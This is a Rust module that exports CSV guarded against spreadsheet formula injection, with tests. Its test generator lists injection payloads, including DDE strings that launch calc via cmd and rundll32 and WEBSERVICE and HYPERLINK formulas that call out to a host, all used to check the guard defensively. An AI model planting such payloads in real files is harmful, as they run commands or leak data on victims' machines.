//! CSV as RFC 4180 says, safe to open in a spreadsheet.

use crate::model::order::IntoList;
use crate::person::text::is_invisible;
use std::borrow::Cow;

/// Rows as CSV text: CRLF after every row, the last one too.
#[must_use]
pub fn csv<'c>(rows: impl IntoIterator<Item = Vec<Cow<'c, str>>>) -> String {
    rows.into_iter().fold(String::new(), |mut text, row| {
        let cells: Vec<String> = row.iter().map(|value| cell(value)).listed();
        text.push_str(&cells.join(","));
        text.push_str("\r\n");
        text
    })
}

/// Signs with which a spreadsheet begins a formula; Excel takes the wide ones too where people type those.
const FORMULA_SIGNS: [char; 9] = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−'];

/// One cell. Text that a spreadsheet would run as a formula gets an apostrophe before it; a plain number, negative
/// ones too, stays a number. Cells with commas, quotes or line breaks are quoted. Letters of control are left out: what
/// reads the file may drop them, and what stood behind them would come first.
#[must_use]
pub fn cell(value: &str) -> String {
    let is_dropped = |letter: char| letter.is_control() && !matches!(letter, '\t' | '\r' | '\n');
    let value: Cow<'_, str> = if value.contains(is_dropped) {
        Cow::Owned(value.chars().filter(|letter| !is_dropped(*letter)).collect())
    } else {
        Cow::Borrowed(value)
    };
    let first = value.chars().find(|letter| !letter.is_whitespace() && !is_invisible(*letter));
    let starts_formula =
        first.is_some_and(|first| FORMULA_SIGNS.contains(&first)) || value.starts_with(['\t', '\r', '\n']);
    let safe: Cow<'_, str> = if starts_formula && !is_number(&value) { Cow::Owned(format!("'{value}")) } else { value };
    if safe.contains([',', '"', '\r', '\n']) { format!("\"{}\"", safe.replace('"', "\"\"")) } else { safe.into_owned() }
}

/// A cell as it was before an export guarded it against spreadsheets, as [`cell`] does.
#[must_use]
pub fn unguarded(cell: &str) -> &str {
    cell.strip_prefix('\'').filter(|value| value.starts_with(FORMULA_SIGNS)).unwrap_or(cell)
}

/// Digits with a sign before them and a point among them at most.
fn is_number(value: &str) -> bool {
    let digits = value.strip_prefix(['-', '+']).unwrap_or(value);
    let (whole, decimals) = digits.split_once('.').unwrap_or((digits, ""));
    let mut all = whole.bytes().chain(decimals.bytes()).peekable();
    all.peek().is_some() && all.all(|digit| digit.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_becomes_text_and_a_number_stays_one() {
        assert_eq!(cell("=1+1"), "'=1+1");
        assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(cell(" +49 30"), "' +49 30");
        assert_eq!(cell("\u{feff}=1"), "'\u{feff}=1");
        assert_eq!(cell("＝1+1"), "'＝1+1");
        assert_eq!(cell("-2.5"), "-2.5");
        assert_eq!(cell("=HYPERLINK(\"x\",\"y\")"), "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
    }

    #[test]
    fn an_independent_parser_reads_back_what_was_written() {
        let rows = [vec!["a,b", "say \"hi\"", "two\r\nlines", "", "Zoë"], vec!["1", "2", "3", "4", "5"]];
        let text = csv(rows.iter().map(|row| row.iter().map(|cell| Cow::Borrowed(*cell)).collect()));
        let mut reader = ::csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let read: Vec<Vec<String>> =
            reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect();
        assert_eq!(read, rows);
    }

    /// Every sign, what has been tried before it, and what may follow, in every combination.
    fn hostile() -> Vec<String> {
        let signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "−", "==", "=+", "+-", "@@"];
        let before = [
            "",
            " ",
            "\t",
            "\r",
            "\n",
            "\r\n",
            "\0",
            "\u{b}",
            "\u{7f}",
            "\u{85}",
            "\u{a0}",
            "\u{200b}",
            "\u{feff}",
            "\u{202e}",
            "\u{2060}",
            " \0\t",
            "\0\0",
            "\u{3000}",
            "\u{1f}\u{200d} ",
            "\u{ad}",
        ];
        let bodies = [
            "1+1",
            "SUM(1;2)",
            "SUM(1,2)",
            "A1",
            "cmd|'/C calc'!A0",
            "HYPERLINK(\"http://example.com/\"&A1)",
            "WEBSERVICE(\"http://example.com\")",
            "DDE(\"a\";\"b\";\"c\")",
            "-1",
            "1e3",
            "",
            "\"=1\"",
            "x,=1+1",
            "\",\"=1+1",
            "\"\r\n=1+1",
            "rundll32|'URL.dll,OpenURL calc.exe'!A",
        ];
        let after = [
            "",
            " ",
            "\n",
            "\r\n",
            "\t",
            "\"",
            ",x",
            ";x",
            "}",
            "\0",
            " é",
            "\u{202e}",
            ",=1",
            "\",=1",
            "\n=1",
            "\r=1",
            "'",
            "|",
            "\u{2028}=1",
            "\u{85}=1",
            "%",
            "=",
            "+",
            "@",
            "\u{feff}",
        ];
        let mut cells = Vec::new();
        for sign in signs {
            for start in before {
                for body in bodies {
                    cells.extend(after.iter().map(|end| format!("{start}{sign}{body}{end}")));
                }
            }
        }
        cells
    }

    #[test]
    fn an_independent_parser_finds_no_cell_that_begins_a_formula_among_a_hundred_thousand() {
        let cells = hostile();
        assert!(cells.len() >= 100_000, "{}", cells.len());
        let text = csv(cells.chunks(4).map(|row| row.iter().map(|cell| Cow::Borrowed(cell.as_str())).collect()));
        let mut reader = ::csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
        let read: Vec<String> =
            reader.records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
        assert_eq!(read.len(), cells.len(), "no cell breaks out of its row");
        for (cell, read) in cells.iter().zip(&read) {
            let shown = read.trim_start_matches(|letter: char| letter.is_whitespace() || letter.is_control());
            assert!(!shown.starts_with(FORMULA_SIGNS) || shown.parse::<f64>().is_ok(), "{cell:?} became {read:?}");
            // Nothing but what no reader keeps is lost.
            let kept: String = cell.chars().filter(|it| !it.is_control() || matches!(it, '\t' | '\r' | '\n')).collect();
            assert!(read == &kept || read.strip_prefix('\'') == Some(&kept), "{cell:?} became {read:?}");
        }
    }
}
